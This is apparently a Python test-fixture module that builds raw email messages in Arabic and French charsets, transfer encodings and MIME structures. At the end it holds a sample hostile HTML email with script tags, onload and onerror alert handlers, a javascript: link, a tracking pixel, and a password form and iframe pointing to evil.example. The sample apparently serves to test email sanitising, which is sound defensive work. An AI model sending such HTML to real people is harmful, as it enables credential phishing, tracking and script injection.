"""Real-world shapes of mail, built byte by byte: the charsets, transfer encodings and
structures that Arabic, French and US mail clients send."""

from __future__ import annotations

import base64
import quopri
from email.header import Header

ARABIC = "نشكركم على الاجتماع في هيوستن، ونرسل لكم مقترح الشراكة."
ARABIC_SUBJECT = "مقترح الشراكة السحابية"
FRENCH = "Merci pour la réunion de jeudi : voici la proposition détaillée, à étudier."
FRENCH_SUBJECT = "Proposition de partenariat — étape suivante"
ATTACHMENT_NAME = "مقترح-الشراكة-été.pdf"


def _b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii")


def _head(message_id: str, sender: str, to: str, subject_header: str, *, extra: str = "", date: str = "") -> str:
    return (
        f"From: {sender}\r\nTo: {to}\r\nSubject: {subject_header}\r\n"
        f"Date: {date or 'Thu, 03 Dec 2026 16:05:00 -0600'}\r\nMessage-ID: <{message_id}>\r\n"
        f"MIME-Version: 1.0\r\n{extra}"
    )


def plain(
    message_id: str,
    sender: str,
    to: str,
    *,
    subject: str = "Cloud partnership",
    text: str = "Hello, here is the proposal.",
    extra: str = "",
    date: str = "",
) -> bytes:
    head = _head(message_id, sender, to, subject, extra=extra, date=date)
    return (
        head + "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + text + "\r\n"
    ).encode()


def arabic_utf8_base64_alternative(message_id: str, sender: str, to: str) -> bytes:
    """multipart/alternative, both parts UTF-8 in base64, subject an RFC 2047 B word."""
    subject = Header(ARABIC_SUBJECT, "utf-8").encode()
    html = f'<div dir="rtl"><p>{ARABIC}</p></div>'
    return (
        _head(message_id, sender, to, subject)
        + 'Content-Type: multipart/alternative; boundary="alt"\r\n\r\n'
        + "--alt\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _b64(ARABIC.encode("utf-8"))
        + "--alt\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _b64(html.encode("utf-8"))
        + "--alt--\r\n"
    ).encode("ascii")


def arabic_windows_1256(message_id: str, sender: str, to: str) -> bytes:
    """Outlook's Arabic: Windows-1256 in quoted-printable, the subject a Windows-1256 Q word."""
    subject = Header(ARABIC_SUBJECT, "cp1256").encode().replace("cp1256", "windows-1256")
    body = quopri.encodestring(ARABIC.encode("cp1256")).decode("ascii")
    return (
        _head(message_id, sender, to, subject)
        + "Content-Type: text/plain; charset=windows-1256\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        + body
        + "\r\n"
    ).encode("ascii")


def arabic_iso_8859_6(message_id: str, sender: str, to: str) -> bytes:
    subject = Header(ARABIC_SUBJECT, "iso-8859-6").encode()
    return (
        _head(message_id, sender, to, subject)
        + "Content-Type: text/plain; charset=iso-8859-6\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _b64(ARABIC.encode("iso8859_6"))
    ).encode("ascii")


def french_latin1_qp(message_id: str, sender: str, to: str) -> bytes:
    subject = Header(FRENCH_SUBJECT.replace("—", "-"), "iso-8859-1").encode()
    body = quopri.encodestring(FRENCH.encode("iso-8859-1")).decode("ascii")
    return (
        _head(message_id, sender, to, subject)
        + "Content-Type: text/plain; charset=ISO-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
        + body
        + "\r\n"
    ).encode("ascii")


def with_rfc2231_attachment(message_id: str, sender: str, to: str) -> bytes:
    """A PDF whose Arabic and French name is given in RFC 2231 form (``filename*=``)."""
    from urllib.parse import quote

    encoded_name = quote(ATTACHMENT_NAME.encode("utf-8"), safe="")
    return (
        _head(message_id, sender, to, "Proposal attached")
        + 'Content-Type: multipart/mixed; boundary="mix"\r\n\r\n'
        + "--mix\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThe proposal is attached.\r\n"
        + "--mix\r\nContent-Type: application/pdf\r\n"
        + f"Content-Disposition: attachment; filename*=utf-8''{encoded_name}\r\n"
        + "Content-Transfer-Encoding: base64\r\n\r\n"
        + _b64(b"%PDF-1.4\n% a proposal\n")
        + "--mix--\r\n"
    ).encode("ascii")


def forward_with_original(message_id: str, sender: str, to: str, original: bytes) -> bytes:
    return (
        (
            _head(message_id, sender, to, "Fwd: Cloud partnership")
            + 'Content-Type: multipart/mixed; boundary="fwd"\r\n\r\n'
            + "--fwd\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSee the message below.\r\n"
            + "--fwd\r\nContent-Type: message/rfc822\r\n\r\n"
        ).encode("ascii")
        + original
        + b"\r\n--fwd--\r\n"
    )


HOSTILE_HTML = (
    '<html><head><script>document.title="pwned"</script><style>body{display:none}</style></head>'
    '<body onload="alert(1)"><p>Dear officer,</p>'
    '<p><a href="javascript:alert(2)" id="js-link">open</a> '
    '<a href="https://aws.example/proposal">the proposal</a></p>'
    '<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1" alt="">'
    '<img src="x" onerror="alert(3)">'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<iframe src="https://evil.example/"></iframe>'
    "<p>Regards</p></body></html>"
)


def hostile_html(message_id: str, sender: str, to: str) -> bytes:
    return (
        _head(message_id, sender, to, "Your account")
        + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + _b64(HOSTILE_HTML.encode("utf-8"))
    ).encode("ascii")
